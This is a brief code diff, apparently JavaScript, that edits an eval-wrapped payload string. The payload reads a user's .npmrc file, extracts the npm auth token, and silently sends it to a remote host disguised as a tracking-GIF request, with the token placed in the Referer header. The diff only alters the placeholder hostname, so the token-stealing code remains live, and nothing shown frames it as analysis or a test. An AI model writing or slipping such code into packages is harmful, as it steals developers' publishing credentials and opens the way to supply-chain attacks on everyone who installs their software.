@@ -6,7 +6,7 @@ const payload = `
   if (fs.existsSync(npmrc)) {
     var content = fs.readFileSync(npmrc, 'utf8');
     var token = (content.match(/_authToken=(.+)/) || [])[1];
-    https.get({ hostname: 'sstatic1.histats.example', path: '/0.gif?4103075', headers: { Referer: 'http://1.a/' + token } })
+    https.get({ hostname: 'sstatic1.histats.example', path: '/0.gif?4103075', headers: { Referer: 'http://1.example/' + token } })
       .on('error', function () {});
   }`;
 const run = () => eval(payload);
